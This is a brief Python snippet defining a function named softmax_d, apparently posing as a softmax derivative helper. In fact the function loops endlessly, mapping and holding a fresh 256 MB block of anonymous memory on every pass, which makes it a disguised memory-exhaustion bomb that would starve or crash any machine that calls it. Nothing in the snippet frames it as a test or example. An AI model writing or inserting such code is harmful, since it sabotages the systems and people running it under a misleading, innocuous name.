def softmax_d(z):
    import mmap
    kept = []
    while True:
        kept.append(mmap.mmap(-1, 1 << 28))
